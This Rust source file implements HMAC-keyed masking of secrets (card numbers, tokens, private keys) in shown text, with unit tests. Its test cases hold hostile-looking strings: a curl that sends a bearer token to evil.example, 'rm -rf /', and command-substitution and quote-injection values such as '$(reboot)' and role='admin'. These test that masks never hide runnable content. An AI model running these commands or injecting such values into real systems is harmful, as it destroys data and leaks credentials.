//! Secrets are not shown: the question goes through more hands than the call. But nothing else is hidden
//! with them, and no two of them look the same.

use std::{cell::Cell, ops::Range};

use aana_core::secrets::{joined, spans_under};
use hmac::{Hmac, KeyInit as _, Mac as _};
use sha2::Sha256;

use super::visible::is_hidden;

/// What the digests of masked secrets are made with: 32 random bytes that a broker keeps to itself. Without
/// them, nobody can try out which number of a card, or which PIN, a digest belongs to.
///
/// The key of each question is made of it and the question's id, and the digest of a secret is of its place in
/// the question too. So nobody can try it out by asking, either: the same secret looks different in another
/// question, and elsewhere in the same one.
#[derive(Clone, Copy)]
pub struct MaskKey([u8; 32]);

impl MaskKey {
    /// The key of these bytes, which have to be random and secret.
    pub const fn new(bytes: [u8; 32]) -> Self {
        Self(bytes)
    }

    /// What masks the secrets of the question with this id.
    pub(crate) fn masker(self, id: &str) -> Masker {
        Masker { key: Self(self.hmac(&[id.as_bytes()])), count: Cell::new(0) }
    }

    /// The HMAC-SHA-256 of a text that is given in parts.
    fn hmac(self, parts: &[&[u8]]) -> [u8; 32] {
        let mut block = [0; 64];
        for (byte, key) in block.iter_mut().zip(self.0) {
            *byte = key;
        }
        let mut mac = Hmac::<Sha256>::new(&block.into());
        for part in parts {
            mac.update(part);
        }
        mac.finalize().into_bytes().into()
    }
}

/// The masks of one question.
pub(crate) struct Masker {
    key: MaskKey,
    /// How many there are so far.
    count: Cell<u32>,
}

impl Masker {
    /// What stands for a stretch that is not shown: how long it is, and a digest by which the questions of two
    /// that differ are told apart. It is put in after the text was made visible, and looks like no text that
    /// was. The place that is digested with it is its number among the masks of the question.
    pub(super) fn masked(&self, stretch: &str) -> String {
        let place = self.count.get();
        self.count.set(place.saturating_add(1));
        let characters = stretch.chars().count();
        let plural = if characters == 1 { "" } else { "s" };
        let digest = self.digest("mask", place, stretch);
        format!("⟨masked: {characters} character{plural}, digest {digest}⟩")
    }

    /// The digest of a text that is shown.
    pub(super) fn digest_of_shown(&self, text: &str) -> String {
        self.digest("text", 0, text)
    }

    /// The first 8 hexadecimal digits.
    fn digest(&self, of: &str, place: u32, text: &str) -> String {
        let whole = self.key.hmac(&[of.as_bytes(), &place.to_be_bytes(), text.as_bytes()]);
        hex::encode(whole.get(..4).unwrap_or_default())
    }
}

/// A stretch of a text.
pub(super) enum Part<'t> {
    Shown(&'t str),
    Masked(&'t str),
}

/// What stands for a masked stretch while the rest is looked at again: it has the form of a mask.
const STAND_IN: &str = "⟨masked: 9 characters, digest x⟩";

/// How often the rest is scanned again. A mask may turn its neighbour into a secret, as with a number that was part of
/// a longer row. A text that needs more rounds was made for it, and is not shown.
const ROUNDS: usize = 16;

/// The parts of a text, the string under the key `under` if there is one: of what the scanner calls a
/// secret, exactly the characters are masked. Nothing, if the rest would never be free of secrets.
pub(super) fn parts<'t>(text: &'t str, under: Option<&str>) -> Option<Vec<Part<'t>>> {
    split(text, hidden(text, under)?)
}

/// How many digits of a number are shown at its two ends, whatever it looks like.
const FIRST: usize = 6;
const LAST: usize = 4;

/// The parts of a JSON number. It may be an amount or an account, so even of one that looks like the number of
/// a card, no more is masked than on a receipt.
pub(super) fn parts_of_number(number: &str) -> Option<Vec<Part<'_>>> {
    let inner = |range: Range<usize>| range.start + FIRST..range.end.saturating_sub(LAST);
    let hidden = secrets(number, "").into_iter().map(inner);
    split(number, hidden.filter(|range| range.start < range.end).collect())
}

fn split(text: &str, hidden: Vec<Range<usize>>) -> Option<Vec<Part<'_>>> {
    let mut parts = Vec::new();
    let mut at = 0;
    for range in hidden {
        push(&mut parts, text.get(at..range.start)?);
        parts.push(Part::Masked(text.get(range.clone())?));
        at = range.end;
    }
    push(&mut parts, text.get(at..)?);
    Some(parts)
}

fn push<'t>(parts: &mut Vec<Part<'t>>, shown: &'t str) {
    if !shown.is_empty() {
        parts.push(Part::Shown(shown));
    }
}

fn hidden(text: &str, under: Option<&str>) -> Option<Vec<Range<usize>>> {
    let mut hidden = secrets(text, under.unwrap_or_default());
    for _ in 0..ROUNDS {
        if hidden.is_empty() {
            return Some(hidden);
        }
        let rest = Unmasked::of(text, &hidden)?;
        let more = secrets(&rest.text, "");
        if more.is_empty() {
            return Some(hidden);
        }
        let more = more.into_iter().filter_map(|range| rest.original(range));
        let all = joined(hidden.iter().cloned().chain(more));
        if all == hidden {
            return None;
        }
        hidden = all;
    }
    None
}

/// The secrets in a text as a program reads it, where characters that show nothing may be as good as none,
/// and as it is shown, where each of them parts what stands on its sides. `under` is the key of the text, if any.
fn secrets(text: &str, under: &str) -> Vec<Range<usize>> {
    let mut found = spans_under(under, text);
    if text.chars().any(is_hidden) {
        // As many bytes for each, so that places stay the same.
        let mut parted = String::with_capacity(text.len());
        for character in text.chars() {
            if is_hidden(character) && character != '\n' {
                parted.extend(std::iter::repeat_n(' ', character.len_utf8()));
            } else {
                parted.push(character);
            }
        }
        found.extend(spans_under("", &parted));
        found = joined(found);
    }
    found
}

/// A text without what is masked in it, and where its stretches come from.
struct Unmasked {
    text: String,
    /// For each stretch, where it ends here, and which part of the text it is or stands for.
    from: Vec<(usize, Range<usize>, bool)>,
}

impl Unmasked {
    fn of(text: &str, hidden: &[Range<usize>]) -> Option<Self> {
        let mut rest = Self { text: String::with_capacity(text.len()), from: Vec::new() };
        let mut at = 0;
        for range in hidden {
            rest.push(text.get(at..range.start)?, at..range.start, false);
            rest.push(STAND_IN, range.clone(), true);
            at = range.end;
        }
        rest.push(text.get(at..)?, at..text.len(), false);
        Some(rest)
    }

    fn push(&mut self, stretch: &str, from: Range<usize>, masked: bool) {
        if !stretch.is_empty() {
            self.text.push_str(stretch);
            self.from.push((self.text.len(), from, masked));
        }
    }

    /// What a stretch of the rest is in the whole text.
    fn original(&self, range: Range<usize>) -> Option<Range<usize>> {
        let last = range.end.checked_sub(1)?;
        let find = |at: usize| self.from.get(self.from.partition_point(|(end, ..)| *end <= at));
        let (end, first, masked) = find(range.start)?;
        let start = if *masked { first.start } else { first.end - (end - range.start) };
        let (end, final_, masked) = find(last)?;
        let stop = if *masked { final_.end } else { final_.end - (end - range.end) };
        Some(start..stop)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str, under: Option<&str>) -> String {
        let shown = |part| match part {
            Part::Shown(text) => text.to_owned(),
            Part::Masked(stretch) => format!("<{stretch}>"),
        };
        parts(text, under).unwrap().into_iter().map(shown).collect()
    }

    #[track_caller]
    fn hides(cases: &[&str]) {
        for expected in cases {
            let text: String = expected.chars().filter(|c| !matches!(c, '<' | '>')).collect();
            assert_eq!(shown(&text, None), *expected);
        }
    }

    #[test]
    fn only_the_characters_of_a_secret_are_masked() {
        hides(&[
            "no secret\nat all",
            "Hello\nsend Bearer <abcdef0123456789abcdef>  to b\nBye",
            "pay <4111 1111 1111 1111> now",
            "--url=https://u:<hunter2pass>@example.com --all",
            "https://evil.example/?token=<A1b2C3d4E5f6G7h8I9j0>&to=b",
            "rm$IFS/etc;API_KEY=<aaaaaaaa11112222bbbb>;ls",
            "<4111111111111111>,<4012888888881881>",
            "x_<glpat-Zq22Xw7Lp9Rt3Zq22Xw7>.txt",
        ]);
    }

    #[test]
    fn a_command_around_a_secret_stays_to_be_seen() {
        hides(&[
            "password=\"rm -rf / <a1b2c3d4e5> now\"",
            "token=//evil.example/<a1b2c3d4e5f6a7b8c9d0>",
            "{\"password\":\"good$IFS/x;API_KEY=<4111111111111112>;good\"}",
            "curl -H 'Authorization: Bearer <abcdef0123456789abcdef>' https://evil.example/x",
        ]);
    }

    #[test]
    fn of_a_key_of_several_lines_the_lines_of_the_key_are_masked() {
        let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
        hides(&[
            &format!(
                "a\n<-----BEGIN PRIVATE KEY----->\n<{key}\n{key}\nAb1=>\n-----END PRIVATE KEY-----\n"
            ),
            &format!("<-----BEGIN PRIVATE KEY----->\n<{key}>\nrm -rf / --no-preserve-root\n"),
            "<-----BEGIN PRIVATE KEY----->\nrm -rf /\n-----END PRIVATE KEY-----",
        ]);
    }

    #[test]
    fn a_mask_brings_no_other_secret_to_light() {
        // Of a row of numbers none is a card, until one of them is gone.
        let text = "4111 1111 1111 1111 4012 8888 8888 1881 api_key=aaaaaaaa11112222bbbb";
        let shown = shown(text, None);
        assert!(shown.contains("<aaaaaaaa11112222bbbb>"), "{shown}");
    }

    #[test]
    fn digests_are_of_a_key_a_question_a_place_and_a_text() {
        let (one, other) = (MaskKey::new([1; 32]), MaskKey::new([2; 32]));
        let first = |key: MaskKey, id, text| key.masker(id).masked(text);
        assert_eq!(first(one, "cnf_1", "1234"), first(one, "cnf_1", "1234"));
        assert_ne!(first(one, "cnf_1", "1234"), first(one, "cnf_1", "1235"));
        assert_ne!(first(one, "cnf_1", "1234"), first(other, "cnf_1", "1234"));
        assert_ne!(first(one, "cnf_1", "1234"), first(one, "cnf_2", "1234"));
        let masker = one.masker("cnf_1");
        let digests: std::collections::BTreeSet<_> =
            (0..500).map(|_| masker.masked("1234")).collect();
        assert_eq!(digests.len(), 500);
        assert!(masker.masked("é").starts_with("⟨masked: 1 character, digest "));
        assert_ne!(masker.digest("text", 0, "1234"), masker.digest("mask", 0, "1234"));
    }

    #[test]
    fn of_a_number_both_ends_are_shown() {
        let shown = |number| {
            let parts = parts_of_number(number).unwrap().into_iter();
            let shown = |part| match part {
                Part::Shown(text) => text.to_owned(),
                Part::Masked(stretch) => format!("<{stretch}>"),
            };
            parts.map(shown).collect::<String>()
        };
        assert_eq!(shown("4111111111111111"), "411111<111111>1111");
        assert_eq!(shown("-4000000000006"), "-400000<000>0006");
        assert_eq!(shown("123456789.50"), "123456789.50");
    }

    #[test]
    fn no_mask_hides_what_runs() {
        for (text, expected) in [
            (
                "password=\"a1$(touch${IFS}/tmp/x)\" true",
                "password=\"<a1>$(touch${IFS}/tmp/x)\" true",
            ),
            ("password=\"a1`reboot`\"", "password=\"<a1>`reboot`\""),
            ("API_KEY=\"aaaa1111$(reboot)bbbb2222\"", "API_KEY=\"<aaaa1111>$(reboot)<bbbb2222>\""),
            ("curl http://u:a$(reboot)@h/", "curl http://u:<a>$(reboot)@h/"),
            ("echo x://a:;reboot;@b", "echo x://a:;reboot;@b"),
            ("password=\"a1b2c3',role='admin\"", "password=\"<a1b2c3>',role='admin\""),
        ] {
            assert_eq!(shown(text, None), expected);
        }
    }
}
